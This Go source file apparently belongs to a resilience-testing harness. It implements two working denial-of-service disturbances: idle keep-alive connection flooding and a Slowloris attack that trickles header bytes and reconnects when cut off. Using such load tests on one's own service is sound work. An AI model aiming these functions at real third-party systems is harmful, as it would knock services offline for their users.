package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/sync/errgroup"
)

// connectAll opens so many connections, a few at a time, and does something with each. They are closed when ctx ends.
func connectAll(ctx context.Context, d disturbance, greet func(net.Conn) error) ([]net.Conn, error) {
	all := make([]net.Conn, d.Number)
	group, dialing := errgroup.WithContext(ctx)
	group.SetLimit(32)
	for i := range all {
		group.Go(func() error {
			conn, err := connectTo(dialing, d.URL)
			if err != nil {
				return err
			}
			context.AfterFunc(ctx, func() { conn.Close() })
			all[i] = conn
			return greet(conn)
		})
	}
	return all, group.Wait()
}

// connectTo opens a connection that is hung up by a reset: ten thousand ports would be taken for a minute.
func connectTo(ctx context.Context, address string) (net.Conn, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", strings.TrimPrefix(address, "http://"))
	if err != nil {
		return nil, err
	}
	return conn, conn.(*net.TCPConn).SetLinger(0)
}

// idle are connections that ask once, so that the node has them wait for the next request, and then nothing.
func idle(ctx context.Context, d disturbance, ready func()) (map[string]float64, error) {
	all, err := connectAll(ctx, d, func(conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: onsale\r\n\r\n"); err != nil {
			return err
		}
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, answer.Body)
		return err
	})
	if err != nil {
		return nil, err
	}
	ready()
	<-ctx.Done()
	return map[string]float64{"connections": float64(len(all))}, nil
}

// slowHeader takes minutes, at a byte a second.
var slowHeader = "GET /healthz HTTP/1.1\r\nHost: onsale\r\nX-Slow: " + strings.Repeat("a", 1000)

// slowLoris are connections that send a byte of a header each second, and come again when the node hangs up.
func slowLoris(ctx context.Context, d disturbance, ready func()) (map[string]float64, error) {
	all, err := connectAll(ctx, d, func(net.Conn) error { return nil })
	if err != nil {
		return nil, err
	}
	ready()
	sent, cut := make([]int, len(all)), 0
	tick := time.NewTicker(time.Second / time.Duration(len(all)))
	defer tick.Stop()
	for i := 0; ; i = (i + 1) % len(all) {
		select {
		case <-ctx.Done():
			return map[string]float64{"connections": float64(len(all)), "hung up on": float64(cut)}, nil
		case <-tick.C:
		}
		if _, err := io.WriteString(all[i], slowHeader[sent[i]:sent[i]+1]); err == nil && sent[i] < len(slowHeader)-1 {
			sent[i]++
			continue
		}
		all[i].Close()
		if all[i], err = connectTo(ctx, d.URL); err != nil && ctx.Err() == nil {
			return nil, fmt.Errorf("come again: %w", err)
		}
		sent[i] = 0
		cut++
	}
}
